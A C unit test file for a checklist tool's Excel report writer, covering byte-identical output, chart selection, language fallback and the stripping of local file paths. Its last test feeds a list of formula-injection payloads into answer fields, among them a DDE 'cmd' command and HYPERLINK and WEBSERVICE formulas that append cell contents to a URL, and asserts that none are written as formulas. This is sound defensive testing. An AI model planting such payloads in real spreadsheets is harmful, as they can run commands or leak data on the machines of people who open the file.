/* SPDX-License-Identifier: Apache-2.0 */
#include "book/book.h"
#include "evaluate/program.h"
#include "sonae/sonae.h"
#include "support/folder.h"
#include "zip/zip.h"

/* ---- a checklist made by hand: areas x questions of one scale, an action for each question ---- */

enum { MOST_AREAS = 64, EACH = 2, MOST_QUESTIONS = MOST_AREAS * EACH };

typedef struct fixture {
  folder folder;
  sn_arena arena;
  sonae_definition definition;
  sonae_response response;
  sonae_report report;
  sonae_area areas[MOST_AREAS];
  sonae_question questions[MOST_QUESTIONS];
  sonae_action actions[MOST_QUESTIONS];
  sonae_lift lifts[MOST_QUESTIONS];
  char ids[MOST_QUESTIONS][3][16];
  sonae_option options[3];
  sonae_scale scale;
  sonae_gate gates[3];
  sonae_level levels[2];
  sonae_condition condition;
  sonae_alert alert;
  sonae_contradiction contradiction;
  sonae_answer answers[MOST_QUESTIONS];
  uint8_t codes[MOST_QUESTIONS];
  sonae_case cases[1];
  sonae_cases collection;
  const char *case_ids[1];
} fixture;

static const char *const ja_en[] = {"ja", "en"};
static const char *const some_text[] = {"日本語の文", "an English text"};

static void set_area(fixture *f, uint32_t i) {
  (void)snprintf(f->ids[i][0], sizeof f->ids[i][0], "area-%02u", (unsigned)i);
  f->areas[i] = (sonae_area){.id = f->ids[i][0], .weight = 1 + i, .title = some_text};
}

static void set_question(fixture *f, uint32_t i) {
  (void)snprintf(f->ids[i][1], sizeof f->ids[i][1], "q-%03u", (unsigned)i);
  (void)snprintf(f->ids[i][2], sizeof f->ids[i][2], "A-%03u", (unsigned)i);
  f->questions[i] = (sonae_question){.id = f->ids[i][1],
                                     .area = i / EACH,
                                     .weight = 1,
                                     .target = 100,
                                     .level = SONAE_NONE,
                                     .minimum = i % 2 == 0,
                                     .not_applicable = true,
                                     .text = some_text,
                                     .why = some_text,
                                     .cases = {f->case_ids, 1}};
  f->lifts[i] = (sonae_lift){i, 100};
  f->actions[i] = (sonae_action){.id = f->ids[i][2],
                                 .area = i / EACH,
                                 .hours = {1 + i, 2},
                                 .yen = 1000 * i,
                                 .closes = &f->lifts[i],
                                 .close_count = 1,
                                 .title = some_text,
                                 .first_step = some_text,
                                 .reason = some_text,
                                 .role = some_text};
  f->codes[i] = (uint8_t)(i % 6); /* unanswered, unknown, not applicable, -, first, second option */
  if (f->codes[i] == SONAE_GIVEN) f->codes[i] = SONAE_FIRST_OPTION + 2;
}

static void set_rules(fixture *f, uint32_t questions) {
  f->gates[0] = (sonae_gate){.kind = SONAE_GATE_MINIMUM, .at_least = 50};
  f->gates[1] = (sonae_gate){.kind = SONAE_GATE_AREA, .area = 0, .at_least = 50 * SONAE_MICRO};
  f->gates[2] = (sonae_gate){.kind = SONAE_GATE_OVERALL, .at_least = 60 * SONAE_MICRO};
  f->levels[0] = (sonae_level){.id = "start", .title = some_text};
  f->levels[1] = (sonae_level){.id = "next", .title = some_text, .gates = f->gates, .gate_count = 3};
  f->condition = (sonae_condition){.op = SONAE_ANSWER_AT_MOST, .subject = 0, .points = 10};
  f->alert = (sonae_alert){.id = "alarm", .when = &f->condition, .headline = some_text};
  static const uint32_t first[] = {0};
  f->contradiction = (sonae_contradiction){
      .id = "odd", .when = &f->condition, .headline = some_text, .questions = first, .question_count = 1};
  f->definition.contradictions = &f->contradiction;
  f->definition.contradiction_count = 1;
  f->definition.levels = f->levels;
  f->definition.level_count = 2;
  f->definition.alerts = &f->alert;
  f->definition.alert_count = 1;
  f->definition.actions = f->actions;
  f->definition.action_count = questions;
}

static void set_definition(fixture *f, uint32_t areas, sonae_model model) {
  f->options[0] = (sonae_option){.id = "yes", .points = 100, .label = some_text};
  f->options[1] = (sonae_option){.id = "partly", .points = 50, .label = some_text};
  f->options[2] = (sonae_option){.id = "no", .points = 0, .label = some_text};
  f->scale = (sonae_scale){.id = "s", .options = f->options, .option_count = 3};
  f->definition = (sonae_definition){.id = "made",
                                     .version = "1.0",
                                     .digest = "sha256:0",
                                     .languages = ja_en,
                                     .language_count = 2,
                                     .model = model,
                                     .title = some_text,
                                     .areas = f->areas,
                                     .area_count = areas,
                                     .scales = &f->scale,
                                     .scale_count = 1,
                                     .questions = f->questions,
                                     .question_count = areas * EACH,
                                     .yen_per_hour = 3000,
                                     .k = 5,
                                     .decay = {1, 2}};
  f->cases[0] = (sonae_case){.id = "C-1",
                             .title = some_text,
                             .sector = some_text,
                             .happened = some_text,
                             .lesson = some_text,
                             .source = some_text};
  f->collection = (sonae_cases){
      .id = "cases", .version = "1.0", .languages = ja_en, .language_count = 2, .items = f->cases, .count = 1};
  f->case_ids[0] = "C-1";
  for (uint32_t i = 0; i < areas; i++)
    set_area(f, i);
  for (uint32_t i = 0; i < areas * EACH; i++)
    set_question(f, i);
}

static fixture *make(uint32_t areas, sonae_model model, bool rules) {
  fixture *f = calloc(1, sizeof *f);
  assert_non_null(f);
  folder_make(&f->folder);
  set_definition(f, areas, model);
  if (rules) set_rules(f, areas * EACH);
  f->response = (sonae_response){.checklist = "made",
                                 .version = "1.0",
                                 .date = "2026-11-01",
                                 .file = "/secret/place/answers.xml",
                                 .organisation_id = "org",
                                 .organisation_name = "株式会社かなえ",
                                 .answers = f->answers,
                                 .packed = {.codes = f->codes}};
  return f;
}

/* Evaluates; called once all the content is as the test wants it. */
static void ready(fixture *f, sonae_language language) {
  sn_log log = {0};
  f->definition.program = sn_program_compile(&f->arena, &log, &f->definition);
  assert_non_null(f->definition.program);
  f->report = (sonae_report){.definition = &f->definition,
                             .response = &f->response,
                             .cases = &f->collection,
                             .language = language,
                             .date = "2026-11-21"};
  assert_int_equal(sonae_workspace_new(&f->definition, &f->report.workspace), SONAE_OK);
  f->report.evaluation = sonae_evaluate(f->report.workspace, &f->response.packed);
}

static void done(fixture *f) {
  sonae_workspace_free(f->report.workspace);
  sn_arena_free(&f->arena);
  folder_remove(&f->folder);
  free(f);
}

static void write_report(fixture *f) {
  sonae_error error = {0};
  assert_int_equal(sonae_report_write(&f->report, SONAE_FILE_XLSX, f->folder.file, &error), SONAE_OK);
  assert_int_equal(folder_count(&f->folder, false), 1);
}

/* All XML of the workbook, one part behind the other. */
static char *all_parts(const char *file) {
  sn_zip *zip;
  size_t length;
  sn_buffer all = SN_BUFFER(64 * 1024 * 1024);
  char *bytes = folder_read(file, &length);
  assert_int_equal(sn_zip_open(bytes, length, &sn_zip_foreign, &zip), SN_ZIP_FINE);
  for (size_t i = 0; i < sn_zip_count(zip); i++)
    assert_int_equal(sn_zip_read(zip, i, &all), SN_ZIP_FINE);
  sn_zip_close(zip);
  free(bytes);
  return all.data;
}

/* ---- tests ---- */

static void test_xlsx__equal_input_gives_equal_bytes(void **state) {
  (void)state;
  fixture *f = make(5, SONAE_WEIGHTED, true);
  size_t first_length, second_length;
  ready(f, SONAE_JA);
  write_report(f);
  char *first = folder_read(f->folder.file, &first_length);
  write_report(f);
  char *second = folder_read(f->folder.file, &second_length);
  assert_int_equal(first_length, second_length);
  assert_memory_equal(first, second, first_length);
  free(first);
  free(second);
  done(f);
}

/* The report asks what each action would bring; afterwards the caller's evaluation must be as it was. */
static void test_xlsx__the_callers_scores_are_left_as_they_were(void **state) {
  (void)state;
  fixture *f = make(5, SONAE_WEIGHTED, true);
  ready(f, SONAE_JA);
  sonae_score overall = f->report.evaluation->overall, area = f->report.evaluation->areas[4];
  write_report(f);
  assert_memory_equal(&overall, &f->report.evaluation->overall, sizeof overall);
  assert_memory_equal(&area, &f->report.evaluation->areas[4], sizeof area);
  done(f);
}

static void test_xlsx__every_shape_of_checklist_gives_a_report(void **state) {
  (void)state;
  static const uint32_t areas[] = {1, 2, 3, 8, 9, 64};
  for (int model = SONAE_WEIGHTED; model <= SONAE_LADDER; model++)
    for (size_t i = 0; i < sizeof areas / sizeof *areas; i++)
      for (int rules = 0; rules < 2; rules++) {
        fixture *f = make(areas[i], (sonae_model)model, rules);
        ready(f, i % 2 ? SONAE_EN : SONAE_JA);
        write_report(f);
        done(f);
      }
}

static void test_xlsx__radar_for_three_to_eight_areas_else_bars(void **state) {
  (void)state;
  static const uint32_t areas[] = {2, 3, 8, 9};
  for (size_t i = 0; i < 4; i++) {
    fixture *f = make(areas[i], SONAE_WEIGHTED, true);
    ready(f, SONAE_JA);
    write_report(f);
    char *parts = all_parts(f->folder.file);
    bool radar = areas[i] >= 3 && areas[i] <= 8;
    assert_int_equal(strstr(parts, "<c:radarChart>") != NULL, radar);
    assert_int_equal(strstr(parts, "<c:barChart>") != NULL, !radar);
    assert_non_null(strstr(parts, " descr=\"領域ごとの点のグラフ"));
    free(parts);
    done(f);
  }
}

static void test_xlsx__nothing_answered_and_nothing_applicable(void **state) {
  (void)state;
  static const uint8_t codes[] = {SONAE_UNANSWERED, SONAE_UNKNOWN, SONAE_NOT_APPLICABLE, SONAE_FIRST_OPTION};
  for (size_t i = 0; i < sizeof codes; i++) {
    fixture *f = make(5, SONAE_WEIGHTED, true);
    memset(f->codes, codes[i], sizeof f->codes);
    f->response.date = NULL;
    f->response.organisation_name = NULL;
    ready(f, SONAE_EN);
    f->report.date = NULL;
    f->report.cases = NULL;
    write_report(f);
    done(f);
  }
}

static void test_xlsx__a_language_the_checklist_lacks(void **state) {
  (void)state;
  fixture *f = make(5, SONAE_WEIGHTED, true);
  f->definition.language_count = 1;
  f->collection.language_count = 1;
  ready(f, SONAE_EN);
  write_report(f);
  char *parts = all_parts(f->folder.file);
  assert_non_null(strstr(parts, "日本語の文"));
  assert_non_null(strstr(parts, "name=\"Summary\""));
  free(parts);
  done(f);
}

static void test_xlsx__paths_of_the_machine_stay_out(void **state) {
  (void)state;
  static const char *const files[] = {"/home/taro/questionnaires/made/1.0/made.xml", "/home/taro/made-rules.xml"};
  fixture *f = make(3, SONAE_WEIGHTED, true);
  f->definition.files = files;
  f->definition.file_count = 2;
  f->gates[0].place = (sonae_place){files[1], 12};
  ready(f, SONAE_JA);
  write_report(f);
  char *parts = all_parts(f->folder.file);
  assert_null(strstr(parts, "taro"));
  assert_null(strstr(parts, "secret"));
  assert_null(strstr(parts, "/tmp"));
  assert_non_null(strstr(parts, "questionnaires/made/1.0/made.xml"));
  assert_non_null(strstr(parts, ">made-rules.xml:12<"));
  assert_non_null(strstr(parts, ">answers.xml<"));
  free(parts);
  done(f);
}

/* From the collection of dangerous strings: what programs read as formulas, and what breaks XML. */
static void test_xlsx__strings_from_outside_are_never_formulas(void **state) {
  (void)state;
  static const char *const hostile[] = {"=1+1",
                                        "=cmd|'/C calc'!A0",
                                        "+1+1",
                                        "-1+1",
                                        "@SUM(1,1)",
                                        "\t=1+1",
                                        "\r=1+1",
                                        "\n=1+1",
                                        "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"click\")",
                                        "=WEBSERVICE(\"http://127.0.0.1:9/\"&A1)",
                                        "＝1+1",
                                        "＋1",
                                        "\"=1+1",
                                        "'=1+1",
                                        " =1+1",
                                        "\u200b=1+1",
                                        "\ufeff=1+1",
                                        "|=1+1",
                                        "{=1+1}",
                                        "=1+1\",\"=2+2",
                                        "http://127.0.0.1:9/",
                                        "internal:'a'!A1",
                                        "_x003D_1+1",
                                        "<f>1+1</f>",
                                        "]]>",
                                        "&amp;",
                                        "\xFF\xFE",
                                        "a\xEF\xBF\xBF"};
  enum { COUNT = sizeof hostile / sizeof *hostile };
  fixture *f = make(MOST_AREAS, SONAE_WEIGHTED, true);
  for (size_t i = 0; i < COUNT; i++)
    f->answers[i] = (sonae_answer){.comment = hostile[i], .evidence = hostile[i], .reason = hostile[i]};
  f->response.organisation_name = "=1+1&P&\"Wingdings\"&G\"<>";
  ready(f, SONAE_JA);
  write_report(f);
  char *parts = all_parts(f->folder.file);
  assert_null(strstr(parts, "<f>"));
  assert_null(strstr(parts, "TargetMode=\"External\""));
  assert_non_null(strstr(parts, ">=cmd|'/C calc'!A0<"));
  assert_non_null(strstr(parts, "_x005F_x003D_1+1"));
  assert_non_null(strstr(parts, "=1+1＆P＆\"Wingdings\"＆G")); /* the footer, without commands */
  free(parts);
  done(f);
}

int main(void) {
  (void)unsetenv("TMPDIR");
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_xlsx__equal_input_gives_equal_bytes),
      cmocka_unit_test(test_xlsx__the_callers_scores_are_left_as_they_were),
      cmocka_unit_test(test_xlsx__every_shape_of_checklist_gives_a_report),
      cmocka_unit_test(test_xlsx__radar_for_three_to_eight_areas_else_bars),
      cmocka_unit_test(test_xlsx__nothing_answered_and_nothing_applicable),
      cmocka_unit_test(test_xlsx__a_language_the_checklist_lacks),
      cmocka_unit_test(test_xlsx__paths_of_the_machine_stay_out),
      cmocka_unit_test(test_xlsx__strings_from_outside_are_never_formulas),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
